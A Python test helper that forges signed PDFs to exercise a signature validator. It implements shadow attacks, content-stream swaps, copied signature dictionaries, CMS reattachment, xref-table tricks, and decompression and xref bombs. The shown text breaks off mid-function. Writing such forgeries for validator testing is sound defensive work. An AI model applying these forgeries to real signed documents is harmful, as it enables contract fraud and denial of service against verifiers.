#!/usr/bin/env python3
"""Byte-level PDF/CMS forgeries for the end-to-end tests (stdlib + the openssl CLI).

Usage: forge.py ATTACK IN.pdf OUT.pdf [ARGS...]     (forge.py --help lists the attacks)

Each attack appends to (or patches) a PDF that `esign sign` wrote: classic xref tables,
objects as "N 0 obj ... endobj" outside object streams. The parsing is regex-and-scan, just
enough for those files: the last definition of an object wins, the trailer is the last one.
Every update is a proper incremental update (objects, an xref table or stream with exact
offsets, a trailer with /Prev, /Root, /Size, startxref, %%EOF), so readers show what it adds.
"""
import argparse
import binascii
import re
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path

# --- reading -----------------------------------------------------------------------------

WS = b' \t\r\n\f\0'
DELIM = b'()<>[]{}/%'


def skip_ws(b, i):
    while i < len(b) and (b[i] in WS or b[i] == 0x25):  # comments too
        if b[i] == 0x25:
            while i < len(b) and b[i] not in b'\r\n':
                i += 1
        else:
            i += 1
    return i


def value_end(b, i):
    """The index just past the PDF value starting at b[i] (dict, array, string, name, ref...)."""
    c = b[i:i + 1]
    if b[i:i + 2] == b'<<' or c == b'[':
        close = b'>>' if c == b'<' else b']'
        i = skip_ws(b, i + len(close))
        while b[i:i + len(close)] != close:
            i = skip_ws(b, value_end(b, i))
        return i + len(close)
    if c == b'(':
        depth, i = 0, i
        while True:
            ch = b[i]
            i += 1
            if ch == 0x5C:
                i += 1
            elif ch == 0x28:
                depth += 1
            elif ch == 0x29:
                depth -= 1
                if depth == 0:
                    return i
    if c == b'<':
        return b.index(b'>', i) + 1
    if c == b'/':
        i += 1
    m = re.compile(rb'(\d+)\s+(\d+)\s+R\b').match(b, i)
    if m and c != b'/':
        return m.end()
    while i < len(b) and b[i] not in WS and b[i] not in DELIM:
        i += 1
    return i


def dict_entries(body):
    """[(key, value_start, value_end)] of the outer dictionary in body (which starts with <<)."""
    i = skip_ws(body, 0)
    assert body[i:i + 2] == b'<<', body[:40]
    i = skip_ws(body, i + 2)
    out = []
    while body[i:i + 2] != b'>>':
        k_end = value_end(body, i)
        key = body[i + 1:k_end]
        v = skip_ws(body, k_end)
        v_end = value_end(body, v)
        out.append((key, v, v_end))
        i = skip_ws(body, v_end)
    return out, i  # i: where the closing >> is


def dict_get(body, key):
    for k, s, e in dict_entries(body)[0]:
        if k == key:
            return body[s:e]
    return None


def dict_set(body, key, value):
    """body with /key set to value (replaced in place, or added before the closing >>)."""
    entries, close = dict_entries(body)
    for k, s, e in entries:
        if k == key:
            return body[:s] + value + body[e:]
    return body[:close] + b'/' + key + b' ' + value + b' ' + body[close:]


def ref(value):
    m = re.fullmatch(rb'\s*(\d+)\s+\d+\s+R\s*', value or b'')
    return int(m.group(1)) if m else None


class Pdf:
    def __init__(self, data):
        self.data = bytes(data)

    def startxref(self):
        return int(re.findall(rb'startxref\s+(\d+)', self.data)[-1])

    def trailer(self):
        """The dictionary of the last trailer (classic) or the last xref stream."""
        at = self.startxref()
        if self.data[at:at + 4] == b'xref':
            i = self.data.index(b'trailer', at) + 7
        else:
            i = self.data.index(b'<<', at)
        i = skip_ws(self.data, i)
        return self.data[i:value_end(self.data, i)]

    def size(self):
        return int(dict_get(self.trailer(), b'Size'))

    def root(self):
        return ref(dict_get(self.trailer(), b'Root'))

    def obj(self, num):
        """The body ("<< ... >>" or "<< ... >> stream ... endstream") of the last 'num 0 obj'."""
        hits = list(re.finditer(rb'(?<![0-9])%d\s+0\s+obj\b' % num, self.data))
        assert hits, 'no object %d' % num
        i = skip_ws(self.data, hits[-1].end())
        end = value_end(self.data, i)
        j = skip_ws(self.data, end)
        if self.data[j:j + 6] == b'stream':
            end = self.data.index(b'endstream', j) + 9
        return self.data[i:end]

    def resolve(self, value):
        n = ref(value)
        return self.obj(n) if n is not None else value

    def catalog(self):
        return self.obj(self.root())

    def acroform(self):
        """(object number or None, dictionary) of the AcroForm, or (None, None)."""
        v = dict_get(self.catalog(), b'AcroForm')
        if v is None:
            return None, None
        return ref(v), self.resolve(v)

    def pages(self):
        kids = dict_get(self.obj(ref(dict_get(self.catalog(), b'Pages'))), b'Kids')
        return [int(n) for n in re.findall(rb'(\d+)\s+\d+\s+R', kids)]

    def byteranges(self):
        return [[int(x) for x in m.groups()] for m in
                re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', self.data)]

    def sig_dicts(self):
        """Object numbers of the signature dictionaries (objects with /ByteRange), in order."""
        nums = []
        for m in re.finditer(rb'(?<![0-9])(\d+)\s+0\s+obj\b', self.data):
            body = self.data[m.end():self.data.find(b'endobj', m.end())]
            if b'/ByteRange' in body and int(m.group(1)) not in nums:
                nums.append(int(m.group(1)))
        return nums


def stream(dict_body, data, compress=False):
    """An object body for a stream: dict_body (a "<< >>" dictionary) with /Length set."""
    if compress:
        data = zlib.compress(data, 9)
        dict_body = dict_set(dict_body, b'Filter', b'/FlateDecode')
    return dict_set(dict_body, b'Length', b'%d' % len(data)) + b'\nstream\n' + data + b'\nendstream'


def runs(nums):
    """Consecutive runs of sorted numbers: [(first, count)]."""
    out = []
    for n in sorted(nums):
        if out and out[-1][0] + out[-1][1] == n:
            out[-1][1] += 1
        else:
            out.append([n, 1])
    return out


# --- writing incremental updates ----------------------------------------------------------

def write_objects(out, objs):
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b'%d 0 obj\n' % num + objs[num] + b'\nendobj\n'
    return offsets


def trailer_dict(pdf, size, extra=b''):
    t = pdf.trailer()
    d = b'<< /Size %d /Root %d 0 R /Prev %d' % (size, pdf.root(), pdf.startxref())
    for k in (b'Info', b'ID'):
        if dict_get(t, k) is not None:
            d += b' /' + k + b' ' + dict_get(t, k)
    return d + extra + b' >>'


def xref_table(entries):
    """Classic xref sections for {num: (offset, gen, 'n'|'f')}."""
    out = b'xref\n'
    for first, count in runs(entries):
        out += b'%d %d\n' % (first, count)
        for n in range(first, first + count):
            off, gen, kind = entries[n]
            out += b'%010d %05d %s \n' % (off, gen, kind.encode())
    return out


XREF_STREAM = False  # --xref-stream: append_update writes xref streams instead of tables


def append_update(pdf, objs, extra=b'', junk=b''):
    """pdf plus an incremental update with a classic xref table: objs {num: body} (new or
    redefined), extra trailer entries; junk goes before the objects, outside every xref
    entry. With XREF_STREAM (and no junk): append_xref_stream_update."""
    if XREF_STREAM and not junk:
        return append_xref_stream_update(pdf, objs, extra)
    out = bytearray(pdf.data)
    if not out.endswith(b'\n'):
        out += b'\n'
    out += junk
    entries = {n: (off, 0, 'n') for n, off in write_objects(out, objs).items()}
    size = max([pdf.size()] + [n + 1 for n in entries])
    xref = len(out)
    out += xref_table(entries)
    out += b'trailer\n' + trailer_dict(pdf, size, extra) + b'\nstartxref\n%d\n%%%%EOF\n' % xref
    return Pdf(out)


def xref_stream_obj(pdf, entries, size, extra=b''):
    """An xref stream object body (/W [1 4 2]) for entries {num: (type, field2, field3)}."""
    rows = b''.join(bytes([t]) + f2.to_bytes(4, 'big') + f3.to_bytes(2, 'big')
                    for _, (t, f2, f3) in sorted(entries.items()))
    index = b' '.join(b'%d %d' % tuple(r) for r in runs(entries))
    d = trailer_dict(pdf, size, extra)[:-2] + b'/Type /XRef /W [1 4 2] /Index [%s] >>' % index
    return stream(d, rows, compress=True)


def append_xref_stream_update(pdf, objs, extra=b''):
    """pdf plus an incremental update whose cross-reference section is an xref stream."""
    out = bytearray(pdf.data)
    if not out.endswith(b'\n'):
        out += b'\n'
    offsets = write_objects(out, objs)
    num = max([pdf.size()] + [n + 1 for n in objs])
    entries = {n: (1, off, 0) for n, off in offsets.items()}
    entries[num] = (1, len(out), 0)
    at = len(out)
    out += b'%d 0 obj\n' % num + xref_stream_obj(pdf, entries, num + 1, extra) + b'\nendobj\n'
    out += b'startxref\n%d\n%%%%EOF\n' % at
    return Pdf(out)


# --- building blocks ----------------------------------------------------------------------

def pdf_str(s):
    return b'(' + s.encode('latin-1').replace(b'\\', b'\\\\').replace(b'(', b'\\(').replace(b')', b'\\)') + b')'


def text_content(text, size=24, x=72, y=700):
    return b'BT /F1 %d Tf %d %d Td %s Tj ET' % (size, x, y, pdf_str(text))


def page_content_num(pdf, page=0):
    return ref(dict_get(pdf.obj(pdf.pages()[page]), b'Contents'))


def font_num(pdf, page=0):
    res = pdf.resolve(dict_get(pdf.obj(pdf.pages()[page]), b'Resources'))
    return ref(dict_get(pdf.resolve(dict_get(res, b'Font')), b'F1'))


def with_annot(pdf, page_num, annot_num, objs):
    """Adds annot_num to the page's /Annots (redefining the page, or its indirect array)."""
    page = objs.get(page_num, pdf.obj(page_num))
    annots = dict_get(page, b'Annots')
    if ref(annots) is not None:
        arr = pdf.obj(ref(annots))
        objs[ref(annots)] = arr[:arr.rindex(b']')] + b' %d 0 R]' % annot_num
    else:
        arr = annots if annots is not None else b'[]'
        objs[page_num] = dict_set(page, b'Annots', arr[:-1].rstrip() + b' %d 0 R]' % annot_num)


def with_field(pdf, field_num, objs, dr=False):
    """Adds field_num to the AcroForm /Fields (creating an AcroForm when there is none);
    dr: also give it a /DR with a Helvetica font and a /DA, as Acrobat does."""
    af_num, af = pdf.acroform()
    if af is None:
        af = b'<< /Fields [] >>'
    fields = pdf.resolve(dict_get(af, b'Fields'))
    af = dict_set(af, b'Fields', fields[:-1].rstrip() + b' %d 0 R]' % field_num)
    af = dict_set(af, b'SigFlags', b'3')
    if dr:
        af = dict_set(af, b'DR', b'<< /Font << /Helv %d 0 R >> >>' % font_num(pdf))
        af = dict_set(af, b'DA', b'(/Helv 0 Tf 0 g)')
    cat = objs.get(pdf.root(), pdf.catalog())
    if af_num is not None:
        objs[af_num] = af
    else:
        objs[pdf.root()] = dict_set(cat, b'AcroForm', af)


def appearance(pdf, text, w=300, h=60):
    return stream(b'<< /Type /XObject /Subtype /Form /BBox [0 0 %d %d] '
                  b'/Resources << /Font << /F1 %d 0 R >> >> >>' % (w, h, font_num(pdf)),
                  b'1 1 1 rg 0 0 %d %d re f 0 g BT /F1 28 Tf 8 18 Td %s Tj ET' % (w, h, pdf_str(text)))


def add_sig_field(pdf, n, objs, v, name, rect=b'[0 0 0 0]', dr=False, ap=None):
    """pdf plus an update with objs and a signature field + widget n on page 1 named name,
    its /V being v (None: an empty field), its normal appearance the object ap (None: none)."""
    page = pdf.pages()[0]
    objs[n] = (b'<< /Type /Annot /Subtype /Widget /FT /Sig /T %s /F 132 /Rect %s /P %d 0 R%s%s >>'
               % (pdf_str(name), rect, page, b' /V ' + v if v else b'', b' /AP << /N %d 0 R >>' % ap if ap else b''))
    with_annot(pdf, page, n, objs)
    with_field(pdf, n, objs, dr=dr)
    return append_update(pdf, objs)


# --- CMS ----------------------------------------------------------------------------------

def openssl_sign(data, key, cert, certfile=None, attached=False, cades=False):
    with tempfile.TemporaryDirectory() as tmp:
        Path(tmp, 'in').write_bytes(data)
        cmd = ['openssl', 'cms', '-sign', '-binary', '-md', 'sha256', '-outform', 'DER', '-nosmimecap',
               '-in', str(Path(tmp, 'in')), '-signer', cert, '-inkey', key, '-out', str(Path(tmp, 'out'))]
        cmd += ['-nodetach'] if attached else []
        cmd += ['-cades'] if cades else []
        cmd += ['-certfile', certfile] if certfile else []
        subprocess.run(cmd, check=True)
        return Path(tmp, 'out').read_bytes()


def put_contents(pdf, cms, sig=-1):
    """pdf with the hex gap of signature `sig` holding cms (zero padded); fails if too big."""
    a, b, c, d = pdf.byteranges()[sig]
    gap = c - b - 2
    hexed = binascii.hexlify(cms)
    if len(hexed) > gap:
        sys.exit('forge: the CMS (%d bytes) does not fit the /Contents gap (%d bytes)' % (len(cms), gap // 2))
    return Pdf(pdf.data[:b + 1] + hexed.ljust(gap, b'0') + pdf.data[c - 1:])


def signed_bytes(pdf, sig=-1):
    a, b, c, d = pdf.byteranges()[sig]
    return pdf.data[a:a + b] + pdf.data[c:c + d]


def der_tlv(b, i):
    """(tag, start of the value, end of the value) of the DER element at b[i]."""
    tag, n = b[i], b[i + 1]
    i += 2
    if n & 0x80:
        k, n = n & 0x7F, int.from_bytes(b[i:i + (n & 0x7F)], 'big')
        i += k
    return tag, i, i + n


def der(tag, value):
    n = len(value)
    length = bytes([n]) if n < 0x80 else bytes([0x80 | ((n.bit_length() + 7) // 8)]) + n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([tag]) + length + value


def der_children(b, start, end):
    out = []
    while start < end:
        _, s, e = der_tlv(b, start)
        out.append(b[start:e])
        start = e
    return out


def cms_reattach(cms, content):
    """The SignedData cms (DER) with content as its encapsulated eContent: the signature over
    the signed attributes (and their messageDigest) is untouched, so it still verifies."""
    _, s, e = der_tlv(cms, 0)
    oid, wrapped = der_children(cms, s, e)
    _, s, e = der_tlv(wrapped, 0)
    _, s, e = der_tlv(wrapped, s)
    parts = der_children(wrapped, s, e)
    _, s, e = der_tlv(parts[2], 0)
    e_type = der_children(parts[2], s, e)[0]
    parts[2] = der(0x30, e_type + der(0xA0, der(0x04, content)))
    return der(0x30, oid + der(0xA0, der(0x30, b''.join(parts))))


def pdf_cms(pdf, sig=-1):
    """The DER CMS in the /Contents of signature sig (without the zero padding)."""
    a, b, c, d = pdf.byteranges()[sig]
    raw = binascii.unhexlify(re.sub(rb'\s', b'', pdf.data[b + 1:c - 1]))
    return raw[:der_tlv(raw, 0)[2]]


# --- attacks (and the helpers the test reads forgeries with) -------------------------------

def attack_cms_swap(pdf, a):
    """Replaces the last signature's CMS by one with *attached* content: with --from, the CMS of
    another file (a signed PDF: its last signature; or a DER .p7s) with its signed data
    re-attached as eContent (--content, default: the bytes that PDF signature covers) -- no key
    needed, the signer's signature stays intact; with --key/--cert, a new `openssl cms -sign
    -nodetach` (-cades for an ETSI.CAdES.detached field) over --content (default: the bytes
    this signature covers, so only the attachment is wrong)."""
    content = Path(a.content).read_bytes() if a.content else None
    if a.source:
        src = Path(a.source).read_bytes()
        if src.startswith(b'%PDF'):
            cms, content = pdf_cms(Pdf(src)), content or signed_bytes(Pdf(src))
        else:
            cms = src
        return put_contents(pdf, cms_reattach(cms, content))
    cades = b'CAdES' in dict_get(pdf.obj(pdf.sig_dicts()[-1]), b'SubFilter')
    content = content or signed_bytes(pdf)
    return put_contents(pdf, openssl_sign(content, a.key, a.cert, a.certfile, attached=True, cades=cades))


def attack_dss_cover(pdf, a):
    """Redefines page 1's content stream (new --text) and adds a /DSS whose /Certs array lists
    that very stream, as if it were a certificate added for long-term validation."""
    content, dss = page_content_num(pdf), pdf.size()
    objs = {content: stream(b'<< >>', text_content(a.text)),
            dss: b'<< /Certs [%d 0 R] >>' % content}
    objs[pdf.root()] = dict_set(pdf.catalog(), b'DSS', b'%d 0 R' % dss)
    return append_update(pdf, objs)


def attack_typed_content(pdf, a):
    """Redefines page 1's content stream (new --text) with a dictionary claiming
    /Type --type (ObjStm or XRef), still the page's /Contents."""
    extra = b' /N 0 /First 0' if a.type == 'ObjStm' else b' /Size 1 /W [1 1 1]'
    d = b'<< /Type /%s%s >>' % (a.type.encode(), extra)
    return append_update(pdf, {page_content_num(pdf): stream(d, text_content(a.text))})


def attack_annot(pdf, a):
    """Adds an annotation to page 1 claiming to be part of a signature: --subtype FreeText
    (with /FT /Sig, or with --parent: /Parent = the first signature field) whose appearance
    paints --text over the page, or --subtype Link with /FT /Sig and a URI action; with
    --plain, an ordinary annotation (a reviewer's FreeText or Text note, no field entries)."""
    page = pdf.pages()[0]
    n = pdf.size()
    annot = b'<< /Type /Annot /Subtype /%s /Rect [60 600 360 660] /P %d 0 R /F 4' % (a.subtype.encode(), page)
    objs = {}
    if a.plain:
        pass
    elif a.parent:
        af = pdf.acroform()[1]
        annot += b' /Parent ' + re.search(rb'\d+\s+\d+\s+R', pdf.resolve(dict_get(af, b'Fields'))).group(0)
    else:
        annot += b' /FT /Sig /T (Signature9)'
    if a.subtype == 'Link':
        annot += b' /Border [0 0 0] /A << /S /URI /URI (%s) >>' % a.uri.encode()
    else:
        annot += b' /Contents %s /DA (/Helv 28 Tf 0 g) /AP << /N %d 0 R >>' % (pdf_str(a.text), n + 1)
        objs[n + 1] = appearance(pdf, a.text)
    objs[n] = annot + b' >>'
    with_annot(pdf, page, n, objs)
    return append_update(pdf, objs)


def field_num(pdf, name):
    """The object number of the field (or merged widget) whose /T is name."""
    nums = [int(m.group(1)) for m in re.finditer(rb'(?<![0-9])(\d+)\s+0\s+obj\b', pdf.data)]
    return next(x for x in dict.fromkeys(nums) if b'/T %s' % pdf_str(name) in pdf.obj(x))


def attack_text_field(pdf, a):
    """Adds an empty text field --name to the form: a merged field and widget on page 1 at
    --rect (as a form author would, before anyone signs)."""
    page = pdf.pages()[0]
    n = pdf.size()
    objs = {n: b'<< /Type /Annot /Subtype /Widget /FT /Tx /T %s /F 4 /Rect %s /P %d 0 R /DA (/Helv 12 Tf 0 g) >>'
               % (pdf_str(a.name), a.rect.encode(), page)}
    with_annot(pdf, page, n, objs)
    with_field(pdf, n, objs, dr=True)
    return append_update(pdf, objs)


def attack_fill_text(pdf, a):
    """Fills the text field --name with --text, as a form filler does: a new /V and a new
    appearance stream (--rect-sized, the field's own rectangle unchanged); --key KEY=VALUE
    changes one more entry of the field (e.g. F=2 to hide it, Rect=[...] to move it)."""
    num = field_num(pdf, a.name)
    n = pdf.size()
    field = dict_set(dict_set(pdf.obj(num), b'V', pdf_str(a.text)), b'AP', b'<< /N %d 0 R >>' % n)
    if a.key:
        k, v = a.key.split('=', 1)
        field = dict_set(field, k.encode(), v.encode())
    return append_update(pdf, {num: field, n: appearance(pdf, a.text)})


def attack_content(pdf, a):
    """Redefines page 1's content stream to show --text instead of what was signed."""
    return append_update(pdf, {page_content_num(pdf): stream(b'<< >>', text_content(a.text))})


def attack_remove_annot(pdf, a):
    """Removes the first annotation of /Subtype --subtype from page 1's /Annots (a reviewer
    deleting a note)."""
    page = pdf.pages()[0]
    pg = pdf.obj(page)
    annots = dict_get(pg, b'Annots')
    arr = pdf.obj(ref(annots)) if ref(annots) is not None else annots.strip()
    gone = next(int(m.group(1)) for m in re.finditer(rb'(\d+)\s+0\s+R', arr)
                if re.search(rb'/Subtype\s*/%s\b' % a.subtype.encode(), pdf.obj(int(m.group(1)))))
    arr = re.sub(rb'(?<![0-9])%d\s+0\s+R' % gone, b'', arr, count=1)
    if ref(annots) is not None:
        return append_update(pdf, {ref(annots): arr})
    return append_update(pdf, {page: dict_set(pg, b'Annots', arr)})


def attack_shadow_xobject(pdf, a):
    """Prepares a shadow attack (before signing): an update adds a form XObject that shows
    --text but that nothing uses yet; after signing, an update need only draw it. --disguise
    gives the stream the dictionary of something else that is not shown: a metadata stream, an
    ICC profile (/N), a font program (/Length1); readers use it as content all the same."""
    n = pdf.size()
    dicts = {'none': b'<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> >>'
                     % font_num(pdf),
             'metadata': b'<< /Type /Metadata /Subtype /XML >>', 'icc': b'<< /N 3 >>', 'font': b'<< /Length1 40 >>'}
    return append_update(pdf, {n: stream(dicts[a.disguise], text_content(a.text, y=600))})


def attack_shadow_orphan(pdf, a):
    """Prepares a shadow attack: an update carries a content stream showing --text that no
    cross-reference entry reaches (between objects); a reader that rebuilds the cross-reference
    finds it, and an update after signing need only point an entry at it."""
    n = pdf.size()
    orphan = b'%d 0 obj\n' % n + stream(b'<< >>', text_content(a.text, y=600)) + b'\nendobj\n'
    return append_update(pdf, {pdf.root(): pdf.catalog()}, junk=orphan)


def attack_shadow_layer(pdf, a):
    """Prepares a shadow attack: page 1 also shows --text, inside an optional content group
    (layer) that is off by default; after signing, an update need only switch it on."""
    page, n = pdf.pages()[0], pdf.size()
    pg = pdf.obj(page)
    res = dict_set(pdf.resolve(dict_get(pg, b'Resources')), b'Properties', b'<< /L1 %d 0 R >>' % n)
    pg = dict_set(dict_set(pg, b'Resources', res), b'Contents', b'[%s %d 0 R]' % (dict_get(pg, b'Contents').strip(), n + 1))
    objs = {n: b'<< /Type /OCG /Name (Terms) >>',
            n + 1: stream(b'<< >>', b'/OC /L1 BDC ' + text_content(a.text, y=600) + b' EMC'),
            page: pg,
            pdf.root(): dict_set(pdf.catalog(), b'OCProperties', b'<< /OCGs [%d 0 R] /D << /OFF [%d 0 R] >> >>' % (n, n))}
    return append_update(pdf, objs)


def attack_sig_copy(pdf, a):
    """Adds a second signature field + widget whose /V is a new signature dictionary with the
    first signature's /ByteRange and /Contents but another /Name, /M (--m) and /Reason."""
    first = pdf.obj(pdf.sig_dicts()[0])
    n = pdf.size()
    sig = b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter %s /ByteRange %s /Contents %s ' \
          b'/Name (Mallory) /M %s /Reason (forged) >>' % (dict_get(first, b'SubFilter'),
                                                         dict_get(first, b'ByteRange'), dict_get(first, b'Contents'), pdf_str(a.m))
    return add_sig_field(pdf, n, {n + 1: sig}, b'%d 0 R' % (n + 1), 'Mallory')


def attack_field_dup(pdf, a):
    """Adds a second signature field whose /V is the existing signature dictionary (by ref)."""
    return add_sig_field(pdf, pdf.size(), {}, b'%d 0 R' % pdf.sig_dicts()[0], 'Copy')


def attack_empty_field(pdf, a):
    """Adds an empty signature field (a widget with /FT /Sig, no /V) named --name, with a
    visible rectangle --rect on page 1; with --text, an appearance that paints a white box
    with that text over the rectangle (the "sneaky signature" overlay)."""
    n = pdf.size()
    objs = {n + 1: appearance(pdf, a.text)} if a.text else {}
    return add_sig_field(pdf, n, objs, None, a.name, rect=a.rect.encode(), ap=n + 1 if a.text else None)


def attack_nested_field(pdf, a):
    """Adds an empty signature field --name under a new parent field --parent (a field dictionary
    with /Kids), so its fully qualified name is PARENT.NAME; visible on page 1."""
    page = pdf.pages()[0]
    n = pdf.size()
    objs = {n: b'<< /FT /Sig /T %s /Kids [%d 0 R] >>' % (pdf_str(a.parent), n + 1),
            n + 1: b'<< /Type /Annot /Subtype /Widget /T %s /Parent %d 0 R /F 132 /Rect [60 600 360 660] /P %d 0 R >>'
                   % (pdf_str(a.name), n, page)}
    with_annot(pdf, page, n + 1, objs)
    with_field(pdf, n, objs)
    return append_update(pdf, objs)


def attack_fill_field(pdf, a):
    """Gives the empty signature field --name an appearance painting --text and a string /V."""
    num = field_num(pdf, a.name)
    n = pdf.size()
    field = dict_set(dict_set(pdf.obj(num), b'V', pdf_str('x')), b'AP', b'<< /N %d 0 R >>' % n)
    return append_update(pdf, {num: field, n: appearance(pdf, a.text)})


def attack_hybrid_free(pdf, a):
    """An update whose classic xref table marks page 1's content stream free while its trailer's
    /XRefStm names an xref stream (same update) that keeps it at its original offset; the update
    also carries an unreferenced redefinition of that object with new --text."""
    content = page_content_num(pdf)
    orig = [m.start() for m in re.finditer(rb'(?<![0-9])%d\s+0\s+obj\b' % content, pdf.data)][-1]
    out = bytearray(pdf.data)
    out += b'%d 0 obj\n' % content + stream(b'<< >>', text_content(a.text)) + b'\nendobj\n'
    num = pdf.size()
    at = len(out)
    out += b'%d 0 obj\n' % num + xref_stream_obj(pdf, {content: (1, orig, 0)}, num + 1) + b'\nendobj\n'
    xref = len(out)
    out += xref_table({content: (0, 1, 'f'), num: (at, 0, 'n')})
    out += b'trailer\n' + trailer_dict(pdf, num + 1, b' /XRefStm %d' % at) + b'\nstartxref\n%d\n%%%%EOF\n' % xref
    return Pdf(out)


def attack_orphan(pdf, a):
    """An update that only does what may follow a signature (adds a /DSS holding the
    certificate --cert) but also carries a definition of page 1's content stream (new --text)
    that no xref entry reaches: xref-following readers show the signed text, a reader that
    rebuilds the xref by scanning shows the new one."""
    content, n = page_content_num(pdf), pdf.size()
    orphan = b'%d 0 obj\n' % content + stream(b'<< >>', text_content(a.text)) + b'\nendobj\n'
    cert = subprocess.run(['openssl', 'x509', '-in', a.cert, '-outform', 'DER'], check=True,
                          capture_output=True).stdout
    objs = {n: stream(b'<< >>', cert), n + 1: b'<< /Certs [%d 0 R] >>' % n,
            pdf.root(): dict_set(pdf.catalog(), b'DSS', b'%d 0 R' % (n + 1))}
    return append_update(pdf, objs, junk=orphan)


def attack_xref_bomb(pdf, a):
    """Appends --updates incremental updates, each only an xref stream (FlateDecode, /W [1 0 0])
    whose /Index lists free entries for every object number above the file's /Size up to
    --entries - 1 (--entries: ten million, the new /Size)."""
    num = pdf.size()  # every update's xref stream is this object (absent from its own /Index)
    first, count = num + 1, a.entries - num - 1
    rows = zlib.compress(bytes(count), 9)
    out = bytearray(pdf.data)
    for _ in range(a.updates):
        at = len(out)
        prev = int(re.findall(rb'startxref\s+(\d+)', out[-64:])[-1])
        d = b'<< /Size %d /Root %d 0 R /Prev %d /Type /XRef /W [1 0 0] /Index [%d %d] /Filter /FlateDecode >>' % (
            a.entries, pdf.root(), prev, first, count)
        out += b'%d 0 obj\n' % num + stream(d, rows) + b'\nendobj\n'
        out += b'startxref\n%d\n%%%%EOF\n' % at
    return Pdf(out)


def attack_dss_bomb(pdf, a):
    """Adds a /DSS whose /Certs lists, --refs times, one stream of --mb megabytes of zeros
    (FlateDecode at level 9)."""
    z = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    data = b''.join(z.compress(chunk) for _ in range(a.mb)) + z.flush()
    n = pdf.size()
    objs = {n: stream(b'<< /Filter /FlateDecode >>', data), n + 1: b'<< /Certs [%s] >>' % b' '.join([b'%d 0 R' % n] * a.refs)}
    objs[pdf.root()] = dict_set(pdf.catalog(), b'DSS', b'%d 0 R' % (n + 1))
    return append_update(pdf, objs)


def attack_annots_flood(pdf, a):
    """Two updates that replace the first page's /Annots with --count direct entries each
    (the second list a reordering of the first): a comparison of lists that is quadratic takes
    minutes, one that is not takes milliseconds."""
    page = pdf.pages()[0]
    body = pdf.obj(page)
    for first in (True, False):
        items = b' '.join([b'1'] * a.count) if first else b' '.join([b'2'] * a.count + [b'1'])
        body = dict_set(body, b'Annots', b'[' + items + b']')
        pdf = append_update(pdf, {page: body})
    return pdf


def attack_sign(pdf, a):
    """An independent signer: adds a signature field + widget and a signature dictionary with
    a zero /Contents placeholder in an incremental update, then signs its ByteRange with
    `openssl cms -sign -binary -md sha256 -outform DER` (detached; -cades with --cades, which
    gives ETSI.CAdES.detached -- but openssl always adds signing-time, which PAdES forbids);
    --docmdp P gives the signature dictionary a DocMDP transform with /P P (claiming to certify)."""
    n = pdf.size()
    subfilter = b'/ETSI.CAdES.detached' if a.cades else b'/adbe.pkcs7.detached'
    placeholder = b'/ByteRange [0 ********** ********** **********]'
    reference = (b' /Reference [<< /Type /SigRef /TransformMethod /DocMDP /TransformParams '
                 b'<< /Type /TransformParams /P %d /V /1.2 >> >>]' % a.docmdp) if a.docmdp else b''
    sig = (b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter %s %s /Contents <%s> '
           b'/M %s /Name %s%s >>' % (subfilter, placeholder, b'0' * 2 * a.size,
                                    pdf_str(time.strftime('D:%Y%m%d%H%M%SZ', time.gmtime())), pdf_str(a.name), reference))
    new = add_sig_field(pdf, n, {n + 1: sig}, b'%d 0 R' % (n + 1), a.name, dr=a.dr)
    data = bytearray(new.data)
    at = data.rindex(placeholder)
    b = data.index(b'<', at + len(placeholder))
    c = data.index(b'>', b) + 1
    br = b'/ByteRange [0 %d %d %d]' % (b, c, len(data) - c)
    data[at:at + len(placeholder)] = br.ljust(len(placeholder))
    new = Pdf(data)
    cms = openssl_sign(signed_bytes(new), a.key, a.cert, a.certfile, cades=a.cades)
    return put_contents(new, cms)


def attack_sign_field(pdf, a):
    """Signs the existing empty signature field --name (as a second signer filling a form's
    signature field): its /V becomes a new signature dictionary, signed as `sign` does."""
    num = field_num(pdf, a.name)
    n = pdf.size()
    placeholder = b'/ByteRange [0 ********** ********** **********]'
    sig = (b'<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached %s /Contents <%s> /M %s >>'
           % (placeholder, b'0' * 2 * a.size, pdf_str(time.strftime('D:%Y%m%d%H%M%SZ', time.gmtime()))))
    new = append_update(pdf, {num: dict_set(pdf.obj(num), b'V', b'%d 0 R' % n), n: sig})
    data = bytearray(new.data)
    at = data.rindex(placeholder)
    b = data.index(b'<', at + len(placeholder))
    c = data.index(b'>', b) + 1
    data[at:at + len(placeholder)] = (b'/ByteRange [0 %d %d %d]' % (b, c, len(data) - c)).ljust(len(placeholder))
    new = Pdf(data)
    return put_contents(new, openssl_sign(signed_bytes(new), a.key, a.cert, a.certfile))


def der_file(path):
    """The DER bytes of a certificate, CRL or OCSP response file (PEM is converted by openssl)."""
    data = Path(path).read_bytes()
    if b'-----BEGIN X509 CRL' in data:
        return subprocess.run(['openssl', 'crl', '-in', path, '-outform', 'DER'], check=True, capture_output=True).stdout
    if b'-----BEGIN' in data:
        return subprocess.run(['openssl', 'x509', '-in', path, '-outform', 'DER'], check=True, capture_output=True).stdout
    return data


def attack_dss_add(pdf, a):
    """An update that adds revocation evidence to the /DSS, as a B-LT extension would: each
    --crl (a CRL file) as a stream in /CRLs, each --ocsp (a DER OCSP response) in /OCSPs. A
    /DSS that exists is redefined with its arrays extended; else the catalog gets a new one.
    Nothing signed changes, so the update is one a validator must allow -- and must not trust
    beyond what the evidence proves (e.g. a CRL too old for the signature's time)."""
    n = pdf.size()
    objs = {}
    dss_ref = dict_get(pdf.catalog(), b'DSS')
    dss_num = ref(dss_ref)
    dss = pdf.resolve(dss_ref) if dss_ref is not None else b'<< >>'
    for key, files in ((b'CRLs', a.crl or []), (b'OCSPs', a.ocsp or [])):
        if not files:
            continue
        old = dict_get(dss, key)
        items = pdf.resolve(old)[1:-1].strip() if old is not None else b''
        for f in files:
            objs[n] = stream(b'<< >>', der_file(f))
            items += b' %d 0 R' % n
            n += 1
        dss = dict_set(dss, key, b'[' + items.strip() + b']')
    if dss_num is None:
        dss_num, n = n, n + 1
